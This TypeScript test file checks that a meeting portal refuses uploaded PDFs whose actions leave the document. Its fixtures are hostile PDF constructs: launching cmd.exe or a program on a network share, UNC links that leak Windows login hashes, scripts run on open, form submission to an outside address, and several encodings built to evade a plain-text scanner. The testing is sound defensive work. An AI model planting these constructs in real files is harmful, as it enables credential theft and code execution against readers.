import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { api, login, startTestServer, type TestServer } from '../../../harness/test-server.ts';
import { homeworkForm } from '../api/walk-fixtures.ts';
import { content, makePackedPdf, makePdf, page, stream, type PdfObject } from './pdf-writer.ts';

/**
 * Attack: a PDF shared in a group that leaves the document. A meeting file that opens a web
 * address, another file or a network share (`\\server\share`: Windows sends the reader's login
 * hash to it) when it is opened or a link is clicked was stored and handed to every participant;
 * and what the upload check already refused (script, launching programs) got past it hidden from
 * its plain search: a `stream` keyword inside a string, an object stream whose dictionary hides
 * its type, a name ended by NUL. Now every PDF is read as a reader reads it, and the group
 * leader's meeting file and the child's homework are refused with 415 and the upload screen's text
 * whatever action of that kind it holds, however written; links inside the document still pass.
 */
let server: TestServer;
let leader: string;
let participant: string;
let meetingId: number;
const MEETINGS = '/portal/features/meetings/meetingsapplicationfeature-id';

beforeAll(async () => {
  server = await startTestServer({ variant: 'gruppstod' });
  leader = (await login(server.url, 'gruppledare', 'gruppledare-losenord', 'portal-staff')).access_token;
  participant = (await login(server.url, 'DEMOKOD-0001')).access_token;
  const list = await api(server.url, '/portal/staff/meetings', { token: leader, variant: 'Gruppstod' });
  const meetings = (list.body as { value: Array<{ id: number; state: string }> }).value;
  meetingId = meetings.find((m) => m.state === 'InProgress')!.id;
});
afterAll(async () => server?.dispose());

/** The group leader shares a file with the group, as the staff console uploads one. */
async function shareWithGroup(file: Buffer, name = 'bilaga.pdf') {
  const form = new FormData();
  form.set('name', name);
  form.set('file', new Blob([new Uint8Array(file)], { type: 'application/pdf' }), name);
  const res = await fetch(`${server.url}/portal/staff/meetings/${meetingId}/appendices`, {
    method: 'POST',
    headers: { Authorization: `Bearer ${leader}`, 'X-App-Variant': 'Gruppstod' },
    body: form,
  });
  return { status: res.status, body: (await res.json()) as Record<string, unknown> };
}

/** What the participants see of the meeting's files. */
async function groupFiles(): Promise<Array<{ id: number }>> {
  const res = await api(server.url, `${MEETINGS}/appendices?MeetingId=${meetingId}`, {
    token: participant,
    variant: 'Gruppstod',
  });
  expect(res.status).toBe(200);
  return (res.body as { value: Array<{ id: number }> }).value;
}

/** A file and one page; `catalog` and `pageEntries` are more entries of the catalog and the page. */
const onePage = (catalog = '', pageEntries = '', more: PdfObject[] = []) =>
  makePdf([
    `<< /Type /Catalog /Pages 2 0 R ${catalog} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    page(pageEntries),
    content(),
    ...more,
  ]);
/** A link on the page doing `action`. */
const link = (action: string) =>
  `/Annots [<< /Type /Annot /Subtype /Link /Rect [72 700 300 720] /A ${action} >>]`;
const UNC = '(\\\\\\\\fildelning\\\\delat\\\\läxa.pdf)';

/** Every kind of action that leaves the document, each written as a writer would. */
const LEAVING: Record<string, Buffer> = {
  'a link to a web address': onePage('', link('<< /S /URI /URI (https://example.org/) >>')),
  'a web address opened with the file': onePage('/OpenAction 5 0 R', '', [
    '<< /S /URI /URI (https://example.org/) >>',
  ]),
  'a web address opened with the page (/AA)': onePage(
    '',
    '/AA << /O << /S /URI /URI (http://example.org/) >> >>',
  ),
  'another file on a network share (/GoToR)': onePage('', link(`<< /S /GoToR /F ${UNC} /D [0 /Fit] >>`)),
  'a program on a network share (/Launch)': onePage(
    `/OpenAction << /S /Launch /Win << /F ${UNC.replace('läxa.pdf', 'kör.exe')} >> >>`,
  ),
  'a form sent to a web address (/SubmitForm)': onePage(
    '/AcroForm << /Fields [] >>',
    link('<< /S /SubmitForm /F << /FS /URL /F (https://example.org/samla) >> >>'),
  ),
  'data fetched from a share (/ImportData)': onePage(`/OpenAction << /S /ImportData /F ${UNC} >>`),
  'a document embedded in another file (/GoToE)': onePage(
    '',
    link('<< /S /GoToE /F (annan.pdf) /D [0 /Fit] /T << /R /C /N (bilaga) >> >>'),
  ),
  'a script run when the file opens (/JavaScript, /JS)': onePage('/Names << /JavaScript 5 0 R >>', '', [
    '<< /Names [(start) << /S /JavaScript /JS (app.launchURL\\("https://example.org/"\\)) >>] >>',
  ]),
  'a web address written with name escapes (/#55RI)': onePage(
    '',
    link('<< /S /#55RI /#55#52#49 (https://example.org/) >>'),
  ),
  'a network share opened through a chain of actions (/Next)': onePage(
    '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next 5 0 R >>',
    '',
    [`<< /S /GoToR /F ${UNC} /D [0 /Fit] >>`],
  ),
  'an article of another file (/Thread)': onePage('', link('<< /S /Thread /F (annan.pdf) /D 0 >>')),
  "a menu item of the reader's own (/Named)": onePage('/OpenAction << /S /Named /N /SaveAs >>'),
  'a web address in a compressed object stream': makePackedPdf(
    { 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', 3: page(), 4: content() },
    { 2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', 5: '<< /S /URI /URI (https://example.org/) >>' },
  ),
  'a share in an object stream, with escaped names': makePackedPdf(
    { 1: '<< /Type /Catalog /Pages 2 0 R >>', 3: page(link('5 0 R')), 4: content() },
    { 2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', 5: `<< /S /Go#54oR /F ${UNC} /D [0 /Fit] >>` },
  ),
};

/** What got past the plain search: the action is the same, the writing hides it. */
const HIDDEN: Record<string, Buffer> = {
  "script after a string that holds 'stream'": onePage(
    '/PageMode /UseNone /Lang (stream\n) /OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> /PageLabels << /Nums [0 << /P (endstream) >>] >>',
  ),
  "an object stream whose dictionary holds ' obj' in a string": makePackedPdf(
    { 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', 3: page(), 4: content() },
    { 2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', 5: '<< /S /Launch /Win << /F (cmd.exe) >> >>' },
    (count, first) => `/Type /ObjStm /N ${count} /First ${first} /Title (om obj) /Filter /FlateDecode`,
  ),
  'an object stream without a /Type (readers go by the cross-reference)': makePackedPdf(
    { 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', 3: page(), 4: content() },
    { 2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', 5: '<< /S /URI /URI (https://example.org/) >>' },
    (count, first) => `/N ${count} /First ${first} /Filter /FlateDecode`,
  ),
  'an object stream whose filter is given indirectly': makePackedPdf(
    { 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', 3: page(), 4: content(), 6: '/FlateDecode' },
    { 2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', 5: '<< /S /URI /URI (https://example.org/) >>' },
    (count, first) => `/Type /ObjStm /N ${count} /First ${first} /Filter 6 0 R`,
  ),
  'an object stream behind a PNG predictor': makePackedPdf(
    { 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', 3: page(), 4: content() },
    { 2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', 5: '<< /S /URI /URI (https://example.org/) >>' },
    (count, first) =>
      `/Type /ObjStm /N ${count} /First ${first} /Filter /FlateDecode /DecodeParms << /Predictor 12 /Columns 4 >>`,
    // Each row of 4 bytes: filter type 0 (None), so a reader reads the objects; the bytes in between hide them.
    (objects) => {
      const padded = Buffer.concat([objects, Buffer.alloc((4 - (objects.length % 4)) % 4, 0x20)]);
      const rows: Buffer[] = [];
      for (let i = 0; i < padded.length; i += 4) rows.push(Buffer.from([0]), padded.subarray(i, i + 4));
      return deflateSync(Buffer.concat(rows));
    },
  ),
  'script whose names end at NUL': onePage('/OpenAction << /S /JavaScript\x00/JS\x00(app.alert\\(1\\)) >>'),
  'an action inside image bytes, reached through the cross-reference': onePage('/OpenAction 6 0 R', '', [
    stream(
      '/Type /XObject /Subtype /Image /Width 8 /Height 8 /ColorSpace /DeviceGray /BitsPerComponent 8',
      Buffer.concat([
        Buffer.alloc(8, 0x80),
        Buffer.from('6 0 obj << /S /#55RI /#55RI (https://example.org/) >> endobj ', 'latin1'),
        Buffer.alloc(8, 0x80),
      ]),
    ),
    null,
  ]),
  'an object stream inside an unterminated string of another object': makePackedPdf(
    { 1: '<< /Type /Catalog /Pages 2 0 R /OpenAction 5 0 R >>', 3: page(), 4: content(), 6: '(inte slut' },
    { 2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', 5: '<< /S /URI /URI (https://example.org/) >>' },
  ),
};

/** Links inside the document, and what a writer puts in every file. */
const SHOWING: Record<string, Buffer> = {
  'a link to a page of the same document (/GoTo)': onePage(
    '',
    link('<< /S /GoTo /D [3 0 R /XYZ 0 842 0] >>'),
  ),
  'a first view set when the file opens': onePage('/OpenAction [3 0 R /Fit] /PageMode /UseOutlines'),
  'a chain of actions inside the document': onePage(
    '/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /Named /N /NextPage >> >>',
    '/Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] /Dest [3 0 R /Fit] >>]',
  ),
  'an object stream that packs only the pages': makePackedPdf(
    { 1: '<< /Type /Catalog /Pages 2 0 R >>', 3: page(link('5 0 R')), 4: content() },
    { 2: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>', 5: '<< /S /GoTo /D [3 0 R /Fit] >>' },
  ),
  'image bytes that happen to spell /URI': onePage('', '/Resources << /XObject << /Im1 5 0 R >> >>', [
    stream(
      '/Type /XObject /Subtype /Image /Width 4 /Height 4 /ColorSpace /DeviceGray /BitsPerComponent 8',
      Buffer.concat([Buffer.from([1, 2, 3]), Buffer.from('/URI /JS ', 'latin1'), Buffer.from([4])]),
    ),
  ]),
};

describe('a PDF shared with the group that leaves the document', () => {
  it.each(Object.entries({ ...LEAVING, ...HIDDEN }))('is refused with 415: %s', async (_, file) => {
    const before = await groupFiles();
    const res = await shareWithGroup(file);
    expect(res.status).toBe(415);
    expect(res.body).toEqual({ error: 'unsupported_type', message: 'Filtypen är inte tillåten.' });
    expect(await groupFiles()).toEqual(before);
  });

  it.each(Object.entries(SHOWING))('is shared when it only shows: %s', async (_, file) => {
    const res = await shareWithGroup(file);
    expect(res.status).toBe(201);
    const id = res.body.value as number;
    expect((await groupFiles()).map((f) => f.id)).toContain(id);
    const download = await fetch(
      `${server.url}/portal/meetingappendix?MeetingId=${meetingId}&AppendixId=${id}`,
      {
        headers: { Authorization: `Bearer ${participant}`, 'X-App-Variant': 'Gruppstod' },
      },
    );
    expect(download.status).toBe(200);
    expect(Buffer.from(await download.arrayBuffer()).equals(file)).toBe(true);
  });
});

describe("a child's homework PDF that leaves the document", () => {
  const hand = (file: Buffer) =>
    fetch(`${server.url}${MEETINGS}/meetingmessage`, {
      method: 'POST',
      headers: { Authorization: `Bearer ${participant}`, 'X-App-Variant': 'Gruppstod' },
      body: homeworkForm(meetingId, 'Min läxa', {
        name: 'läxa.pdf',
        declaredType: 'application/pdf',
        content: new Blob([new Uint8Array(file)], { type: 'application/pdf' }),
      }),
    });

  it('is refused with 415 as the group leader’s is; one that only shows is handed in', async () => {
    for (const file of [
      LEAVING['a link to a web address']!,
      HIDDEN["script after a string that holds 'stream'"]!,
    ]) {
      const res = await hand(file);
      expect(res.status).toBe(415);
      expect(await res.json()).toEqual({ error: 'unsupported_type', message: 'Filtypen är inte tillåten.' });
    }
    expect((await hand(SHOWING['a link to a page of the same document (/GoTo)']!)).status).toBe(200);
  });
});
